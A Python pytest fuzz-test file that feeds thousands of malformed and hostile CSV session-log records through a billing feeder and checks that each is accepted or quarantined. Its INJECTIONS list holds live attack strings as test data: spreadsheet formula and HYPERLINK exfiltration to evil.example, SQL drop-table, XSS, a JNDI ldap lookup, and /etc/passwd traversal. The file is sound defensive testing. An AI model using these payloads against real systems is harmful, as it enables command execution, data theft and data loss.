"""Hostile session logs through the real feeder (no chain): every record is accounted for, nothing crashes.

8 CSV files are generated from fixed seeds, each with exactly 1,300 malformed or hostile records and 200
valid records shuffled together: 10,400 hostile and 1,600 valid records, 12,000 in all. Both reader paths
are covered: files 0 and 2 are read by polars; the odd files hold quoted fields spanning lines, and files 4
and 6 stray quotes inside unquoted fields (which polars refuses), so those six go through the reader's
csv-module path. Half of the files have the canonical header, half the columns shuffled with unknown
columns mixed in.

A hostile record is a valid one with one to three of: values of the wrong type, huge numbers, zero, negative
or reversed durations, bad addresses, broken UTF-8 bytes, embedded quotes, delimiters and (multi-line
files) newlines, spreadsheet and SQL injection strings (`=cmd|' /C calc'!A0`, `'; DROP TABLE`, ...), NUL and
other control characters, fields up to 64 Ki characters, unknown meters, blank fields, stray quotes inside
unquoted fields, missing or extra columns (down to a blank line), and the header line again. A valid record
may itself carry hostile-looking content the rules allow (quotes, commas, injection strings, RTL overrides,
emoji, ISO timestamps, padded upper-case meter keys).

Each file is written to disk and fed to `Feeder.process_file`. Asserted per file: no exception escapes;
the feeder reads exactly the records written; accepted + quarantined == records; every quarantined record
is listed in quarantine.csv with its source, the first line of that record and a non-empty reason, once;
no valid record is quarantined; every unterminated quote is quarantined as such at its line, and nothing
else is; every flagged record in fraud.csv carries the first line of a record.

Files read by the csv-module path also get bare carriage returns (inside fields, quoted or not: part of the
field, never a line break; polars would drop one before a delimiter, so a file holding one is read by the
csv-module path, and the polars files get none) and quotes that open a field and are never closed (the
record is quarantined as "unterminated quote", the lines after it are read as usual; the rare one that a
later quote followed by a delimiter would close is left out: that input is a field spanning lines). Any
empty field may be written quoted (""). The reproductions of the three reader bugs these inputs found are at
the end of the file.
"""

from __future__ import annotations

import csv
import io
import random
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from polars.testing import assert_frame_equal

from streamledger.oracle import dev_oracle_key
from streamledger.usage import reader
from streamledger.usage.feeder import CustomerDirectory, Feeder, OracleSigner
from streamledger.usage.journal import Journal

NOW = 1_800_000_000
DAY = 86_400
COLUMNS = ("session_id", "customer", "device_id", "content_id", "meter", "start", "end", "bytes")
EXTRA_COLUMNS = ("user_agent", "ip", "country", "dvr")
TEXT_COLUMNS = ("session_id", "device_id", "content_id")

FILES = 8
HOSTILE_PER_FILE = 1_300
VALID_PER_FILE = 200
HOSTILE_TOTAL = FILES * HOSTILE_PER_FILE  # 10,400


@dataclass(frozen=True)
class Profile:
    multiline: bool  # quoted fields span lines: the reader's csv-module path
    shuffled: bool  # columns in another order, unknown columns mixed in
    stray_quotes: bool  # quotes inside unquoted fields: polars refuses the file, the csv-module path reads it

    @property
    def csv_module_path(self) -> bool:
        return self.multiline or self.stray_quotes


PROFILES = [
    Profile(multiline=index % 2 == 1, shuffled=index in (2, 3, 6, 7), stray_quotes=index not in (0, 2))
    for index in range(FILES)
]

CUSTOMERS = ["0x" + f"{i:02x}" * 20 for i in range(0x11, 0x21)]
DIRECTORY = {address: (i + 1, 1 + i % 3) for i, address in enumerate(CUSTOMERS)}

# Text a valid field may hold: the rules allow anything but control characters, U+FFFD and blank-only text.
SAFE = (
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    + ",\"';=+-@|!%$<>{}[]()/\\*&^#~`?:._ "
    + "éßжΩ中文ǅ🙂\u202e\u200bñ"
)
INJECTIONS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE usage; --",
    "Robert'); DROP TABLE Students;--",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/x}",
    "../../../../etc/passwd",
    "%s%s%s%n",
    "{{7*7}}",
    "\u202egnp.exe",
)
WRONG_TYPES = (
    "yesterday", "1.5", "0x10", "1e9", "NaN", "inf", "-inf", "true", "null", "None", "[]", "{}", "\u0661\u0662\u0663",
    "\uff11\uff12\uff13", "12 34", "--1", "+-3", "½", "0b101", "2026-13-45T99:99:99", "2026-02-30", "1_000",
)  # fmt: skip
HUGE = (
    str(2**40),
    str(2**63),
    str(2**64 + 1),
    str(10**30),
    str(-(2**63)),
    str(-(10**20)),
    str(10**15 + 1),
    "9" * 400,
)
BAD_ADDRESSES = (
    "0xnope", "0x" + "a" * 39, "0x" + "a" * 41, "a" * 40, "0X" + "a" * 40, "0x" + "g" * 40, " 0x" + "a" * 40,
    "0x" + "a" * 40 + " ", "alice.eth", "0x" + "\u0661" * 40, "0x" + "\uff41" * 40, "0x" + "a" * 39 + "\u200b",
    "0x" + "a" * 40 + "0x" + "b" * 40,
)  # fmt: skip
BROKEN_UTF8 = (b"\xff", b"\xfe\xff", b"\xc3", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x80", b"\xe2\x82")
CONTROLS = ("\t", "\x1b[2J", "\x7f", "\x0b", "\x0c", "\x01", "\x1f", "\x00")
CR = ("\r",)  # files read by the csv-module path only (see the module docstring)
UNKNOWN_METERS = ("holo", "premium minutes", "rental:", "rental:unknown", "premium_minutes\u200b", "gb", "%")
BLANKS = ("", " ", "   ", "\u3000", "\u00a0")


# ----- generation ------------------------------------------------------------------------------------------


def text(rng: random.Random, low: int = 1, high: int = 40) -> str:
    first = rng.choice(SAFE.replace(" ", ""))
    return (first + "".join(rng.choices(SAFE, k=rng.randint(low, high) - 1)))[:256]


def timestamp(rng: random.Random, seconds: int) -> str:
    if rng.random() < 0.75:
        return str(seconds)
    moment = datetime.fromtimestamp(seconds, UTC)
    style = rng.randrange(4)
    if style == 0:
        return moment.strftime("%Y-%m-%dT%H:%M:%S")
    if style == 1:
        return moment.strftime("%Y-%m-%d %H:%M:%SZ")
    if style == 2:
        return moment.isoformat()
    return moment.astimezone(timezone(timedelta(hours=5, minutes=30))).isoformat()


def valid_record(rng: random.Random, name: str, profile: Profile) -> dict[str, str]:
    start = NOW - rng.randint(3_600, 20 * DAY)
    end = start + rng.randint(1, 7_200)
    meter = rng.choice(("premium_minutes", "gb_delivered", "", "none", "included", "rental:the_long_night"))
    meter = rng.choice((meter, meter.upper(), " " + meter.title() + "  "))
    customer = rng.choice(CUSTOMERS)
    customer = "0x" + "".join(c.upper() if rng.random() < 0.3 else c for c in customer[2:])
    record = {
        "session_id": (name + "." + text(rng, 1, 30))[:256],
        "customer": customer,
        "device_id": rng.choice((text(rng), text(rng, 200, 256), rng.choice(INJECTIONS))),
        "content_id": rng.choice((text(rng), rng.choice(INJECTIONS))),
        "meter": meter,
        "start": timestamp(rng, start),
        "end": timestamp(rng, end),
        "bytes": rng.choice(("", "0", str(rng.randint(0, 10**15)))),
    }
    for column in EXTRA_COLUMNS:
        odd = ("a\nb" if profile.multiline else "ab", "a\rb" if profile.csv_module_path else "ab")
        record[column] = rng.choice((text(rng), rng.choice(INJECTIONS), "", *odd))
    return record


def insert(rng: random.Random, value: str | bytes, piece: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else value
    piece = piece.encode() if isinstance(piece, str) else piece
    at = rng.randint(0, len(raw))
    return raw[:at] + piece + raw[at:]


def mutate(rng: random.Random, record: dict, profile: Profile) -> dict | tuple[str, int]:
    """One hostile change to `record` (a dict of column -> str or raw bytes), or what replaces the record
    (("missing", k): only k cells; ("header", 0): the header line; ("unterminated", (record, column)): the
    record with a quote opening `column` that its line never closes)."""
    kind = rng.choice([k for k in range(17) if k not in (11, 16) or profile.stray_quotes])
    column = rng.choice(COLUMNS)
    text_column = rng.choice(TEXT_COLUMNS)
    if kind == 0:
        record[rng.choice(("start", "end", "bytes"))] = rng.choice(WRONG_TYPES)
    elif kind == 1:
        record[rng.choice(("start", "end", "bytes"))] = rng.choice(HUGE)
    elif kind == 2:  # zero, negative or reversed durations, times at or below zero
        start = NOW - rng.randint(0, 5 * DAY)
        record["start"], record["end"] = rng.choice(
            ((str(start), str(start)), (str(start), str(start - rng.randint(1, DAY))), ("0", str(start)),
             (str(-start), str(start)), (str(start), "0"), (str(start), "-1"))
        )  # fmt: skip
    elif kind == 3:
        record["customer"] = rng.choice(BAD_ADDRESSES)
    elif kind == 4:
        record[column] = insert(rng, record[column], rng.choice(BROKEN_UTF8))
    elif kind == 5:  # embedded quotes, delimiters and (multi-line files) newlines, written quoted
        pieces = ['"', ",", '""', '","', ",,,"] + (["\n", "\n\n", '"\n"', ",\n,", "\r\n"] if profile.multiline else [])
        pieces += ["\r", '"\r'] if profile.csv_module_path else []
        record[text_column] = insert(rng, record[text_column], rng.choice(pieces)).decode("utf-8", "replace")
    elif kind == 6:
        record[column] = rng.choice(INJECTIONS)
    elif kind == 7:
        record[column] = insert(rng, record[column], rng.choice(CONTROLS + (CR if profile.csv_module_path else ())))
    elif kind == 8:  # very long fields
        size = rng.choice((257, 1_000, 4_096, 65_536))
        record[column] = (rng.choice(("x", "é", "🙂", "9", "a1")) * size)[:size]
    elif kind == 9:
        record["meter"] = rng.choice(UNKNOWN_METERS)
    elif kind == 10:
        record[rng.choice(("session_id", "customer", "device_id", "content_id", "start", "end"))] = rng.choice(BLANKS)
    elif kind == 11:  # a stray quote inside an unquoted field (never at its start)
        raw = record[text_column].encode() if isinstance(record[text_column], str) else record[text_column]
        raw = raw.replace(b",", b"").replace(b'"', b"").replace(b"\n", b"") or b"x"
        at = rng.randint(1, len(raw))
        record[text_column] = RawField(raw[:at] + b'"' + raw[at:])
    elif kind == 12:  # missing columns: the first k cells only (k = 0: a blank line)
        return ("missing", rng.randint(0, 7))
    elif kind == 13:  # extra columns
        record["_extra"] = [
            rng.choice((text(rng), rng.choice(INJECTIONS), "", "9" * 30)) for _ in range(rng.randint(1, 20))
        ]
    elif kind == 14:
        return ("header", 0)
    elif kind == 16:  # a quote that opens a field and is never closed
        return ("unterminated", (record, text_column))
    else:  # wrong types in text fields: numbers, JSON, booleans
        record[text_column] = rng.choice(("0", "-1", "1e309", "true", '{"a": 1}', "[1, 2]", "null"))
    return record


class RawField(bytes):
    """A field written as is, never quoted."""


def cell(rng: random.Random, value: str | bytes) -> bytes:
    if isinstance(value, RawField):
        return bytes(value)
    raw = value.encode() if isinstance(value, str) else value
    if any(c in raw for c in (b",", b'"', b"\n")) or rng.random() < 0.1:  # an empty one too: ""
        return b'"' + raw.replace(b'"', b'""') + b'"'
    return raw


def serialize(rng: random.Random, record: dict | tuple, header: list[str]) -> bytes:
    if isinstance(record, tuple):
        what, keep = record
        if what == "header":
            return ",".join(header).encode() + b"\n"
        if what == "unterminated":  # the line's one quote: every cell is written plain
            record, column = keep
            cells = [plain(record[c]) for c in header]
            cells[header.index(column)] = b'"' + (cells[header.index(column)] or b"tv")
            return b",".join(cells) + b"\n"
        cells = [cell(rng, rng.choice((text(rng), "1", "0x" + "a" * 40))) for _ in range(keep)]
        return b",".join(cells) + b"\n"
    cells = [cell(rng, record[column]) for column in header]
    cells += [cell(rng, value) for value in record.get("_extra", ())]
    return b",".join(cells) + b"\n"


def plain(value: str | bytes) -> bytes:
    raw = value.encode() if isinstance(value, str) else bytes(value)
    return raw.replace(b'"', b"").replace(b",", b"").replace(b"\n", b"")


def closed_on_a_later_line(data: bytes, at: int) -> bool:
    """Whether the quote opening a field at data[at] is closed after a line break, by a quote followed by a
    delimiter or a line end: then it is no unterminated quote but a field spanning lines (as a later field's
    opening quote does not close it: a character other than a delimiter follows)."""
    i = at + 1
    while (j := data.find(b'"', i)) >= 0:
        if data[j + 1 : j + 2] == b'"':  # an escaped quote
            i = j + 2
            continue
        closes = data[j + 1 : j + 2] in (b"", b",", b"\n") or data[j + 1 : j + 3] == b"\r\n"
        return closes and b"\n" in data[at:j]
    return False


def generate(index: int) -> tuple[bytes, list[int], list[int], list[int]]:
    """File `index`: its bytes, and the first line of each valid and each hostile record, and the lines with
    an unterminated quote."""
    rng = random.Random(f"feeder fuzz {index}")
    profile = PROFILES[index]
    header = list(COLUMNS)
    if profile.shuffled:
        header += list(EXTRA_COLUMNS)
        rng.shuffle(header)
    kinds = ["valid"] * VALID_PER_FILE + ["hostile"] * HOSTILE_PER_FILE
    rng.shuffle(kinds)
    body, line = [",".join(header).encode() + b"\n"], 2
    valid_lines, hostile_lines, unterminated = [], [], {}
    size = len(body[0])
    for number, kind in enumerate(kinds):
        record = valid_record(rng, f"f{index}.r{number}", profile)
        if kind == "hostile":
            for _ in range(rng.choice((1, 1, 2, 3))):
                record = mutate(rng, record, profile)
                if isinstance(record, tuple):
                    break
        data = serialize(rng, record, header)
        if isinstance(record, tuple) and record[0] == "unterminated":
            unterminated[line] = size + data.index(b'"')
        (valid_lines if kind == "valid" else hostile_lines).append(line)
        body.append(data)
        line += data.count(b"\n")
        size += len(data)
    # A quote "closed" on a later line by a quote followed by a delimiter cannot be told from a field that
    # spans lines: that input is another one (a stray quote in a multi-line field). Such quotes are dropped,
    # from the last one back: an earlier quote's closing depends on what follows it.
    data = bytearray(b"".join(body))
    for number, at in reversed(list(unterminated.items())):
        if closed_on_a_later_line(data, at):
            data[at : at + 1] = b"x"
            del unterminated[number]
    return bytes(data), valid_lines, hostile_lines, sorted(unterminated)


# ----- the feeder ------------------------------------------------------------------------------------------


@pytest.fixture
def make_feeder(offline_deployment, tmp_path):
    def _make(name: str) -> Feeder:
        state = tmp_path / f"state-{name}"
        state.mkdir()
        return Feeder(
            offline_deployment,
            Journal(state / "journal.sqlite"),
            state / "out",
            OracleSigner(tuple(dev_oracle_key(i) for i in range(2)), 2),
            CustomerDirectory(table=DIRECTORY),
            offline_deployment.meter_units,
            clock=lambda: NOW,
        )

    return _make


@pytest.fixture
def csv_module_reads(monkeypatch):
    """How many times the reader fell back to its csv-module path."""
    calls = []
    original = reader._read_csv_python

    def spy(data):
        calls.append(len(data))
        return original(data)

    monkeypatch.setattr(reader, "_read_csv_python", spy)
    return calls


def rows(path: Path) -> list[list[str]]:
    if not path.exists():
        return []
    with path.open(newline="") as fp:
        return list(csv.reader(fp))[1:]


@pytest.mark.parametrize("index", range(FILES))
def test_every_hostile_record_is_accepted_or_quarantined_with_its_line_and_reason(
    make_feeder, csv_module_reads, tmp_path, index
):
    data, valid_lines, hostile_lines, unterminated = generate(index)
    assert (len(valid_lines), len(hostile_lines)) == (VALID_PER_FILE, HOSTILE_PER_FILE)
    path = tmp_path / f"hostile-{index}.csv"
    path.write_bytes(data)
    feeder = make_feeder(str(index))

    report = feeder.process_file(path)

    records = VALID_PER_FILE + HOSTILE_PER_FILE
    assert report.records == records
    assert report.accepted + report.quarantined == records
    assert bool(csv_module_reads) == PROFILES[index].csv_module_path
    quarantined = rows(feeder.out_dir / "quarantine.csv")
    assert len(quarantined) == report.quarantined
    assert all(source == str(path) and reason.strip() for source, _, reason in quarantined)
    lines = [int(line) for _, line, _ in quarantined]
    assert len(set(lines)) == len(lines)
    assert set(lines) <= set(hostile_lines)
    assert not set(lines) & set(valid_lines)
    assert bool(unterminated) == PROFILES[index].stray_quotes
    assert [int(line) for _, line, reason in quarantined if reason == "unterminated quote"] == unterminated
    flagged = rows(feeder.out_dir / "fraud.csv")
    assert len(flagged) == report.flagged
    assert {int(row[1]) for row in flagged} <= (set(valid_lines) | set(hostile_lines)) - set(lines)


def test_the_corpus_holds_10400_hostile_records_in_8_files():
    assert HOSTILE_TOTAL == 10_400
    assert sum(len(generate(index)[2]) for index in range(FILES)) == HOSTILE_TOTAL


# ----- the reader bugs these inputs found, reproduced --------------------------------------------------------

HEADER = ",".join(COLUMNS)
T = NOW - DAY


def line(session_id: str, device: str = "tv", nbytes: str = "0") -> str:
    return f"{session_id},{CUSTOMERS[0]},{device},ch1,premium_minutes,{T},{T + 600},{nbytes}\n"


def feed(make_feeder, tmp_path, body: bytes):
    path = tmp_path / "log.csv"
    path.write_bytes(HEADER.encode() + b"\n" + body)
    feeder = make_feeder("repro")
    report = feeder.process_file(path)
    return report, [(int(row[1]), row[2]) for row in rows(feeder.out_dir / "quarantine.csv")]


def test_a_carriage_return_in_a_file_with_a_multi_line_field_keeps_records_and_line_numbers(make_feeder, tmp_path):
    body = (line('"s1\nx"') + line("s2", device="t\rv") + line("s3")).encode()  # records at lines 2, 4 and 5

    report, quarantined = feed(make_feeder, tmp_path, body)

    assert report.records == 3
    assert quarantined == [(2, "control characters in session_id"), (4, "control characters in device_id")]


def test_a_carriage_return_before_a_delimiter_is_part_of_its_field(make_feeder, csv_module_reads, tmp_path):
    # polars would drop it (and accept the record): the csv-module path reads this file
    report, quarantined = feed(make_feeder, tmp_path, (line("s1", device="tv\r") + line("s2")).encode())

    assert (report.records, quarantined) == (2, [(2, "control characters in device_id")])
    assert csv_module_reads


def test_crlf_line_ends_are_read_by_polars(make_feeder, csv_module_reads, tmp_path):
    report, quarantined = feed(make_feeder, tmp_path, (line("s1") + line("s2")).replace("\n", "\r\n").encode())

    assert (report.records, report.accepted, quarantined) == (2, 2, [])
    assert not csv_module_reads


def test_an_unterminated_quote_loses_no_later_record(make_feeder, tmp_path):
    body = (line("s1", device='"tv') + line("s2") + line("s3") + line("s4")).encode()

    report, quarantined = feed(make_feeder, tmp_path, body)

    assert (report.records, report.accepted) == (4, 3)
    assert quarantined == [(2, "unterminated quote")]


def test_a_quote_closed_only_by_a_later_fields_opening_quote_is_unterminated_too(make_feeder, tmp_path):
    # read as one field, s1's device would run to the quote opening s3's (followed by K, not a delimiter)
    body = line("s1", device='"tv') + line("s2") + line("s3", device='"Kodi/20"') + line("s4", device='"a\nb"')

    report, quarantined = feed(make_feeder, tmp_path, body.encode())

    assert (report.records, report.accepted) == (4, 2)  # s4's device spans lines 5 and 6
    assert quarantined == [(2, "unterminated quote"), (5, "control characters in device_id")]


def test_a_quoted_empty_bytes_field_means_zero_bytes(make_feeder, tmp_path):
    report, quarantined = feed(make_feeder, tmp_path, line("s1", nbytes='""').encode())

    assert quarantined == []
    assert report.accepted == 1


def test_a_field_too_long_for_the_csv_module_does_not_stop_the_feeder(make_feeder, tmp_path):
    body = line('"s1\nx"') + line("s2", device="x" * 200_000)  # the csv module's default limit: 131,072

    report, quarantined = feed(make_feeder, tmp_path, body.encode())

    assert report.records == 2
    assert quarantined == [(2, "control characters in session_id"), (4, "device_id longer than 256 characters")]


def test_reading_past_broken_quotes_in_one_pass_is_restarting_at_the_next_line_each_time():
    def restarting(text: str) -> list:  # the rule as stated: quadratic on some inputs
        lines, records, at = io.StringIO(text, newline="").readlines(), [], 0
        while at < len(lines):
            first, reader_ = at, csv.reader(lines[at:], strict=True)
            try:
                for row in reader_:
                    records.append((first + 1, row, None))
                    first = at + reader_.line_num
                break
            except csv.Error:
                records.append((first + 1, *reader._alone(lines[first])))
                at = first + 1
        return records

    rng = random.Random("broken quotes")
    for _ in range(20_000):
        text = "".join(rng.choices(['"', '"', '""', ",", "\n", "\r\n", "a"], k=rng.randint(0, 30)))
        assert list(reader._csv_records(text)) == restarting(text), text


@pytest.mark.parametrize("index", [0, 2])
def test_both_reader_paths_read_a_file_polars_reads_alike(csv_module_reads, index):
    data = generate(index)[0]

    fast = reader.read_log(Path("log.csv"), data)
    assert not csv_module_reads

    assert_frame_equal(fast, reader._read_csv_python(data))
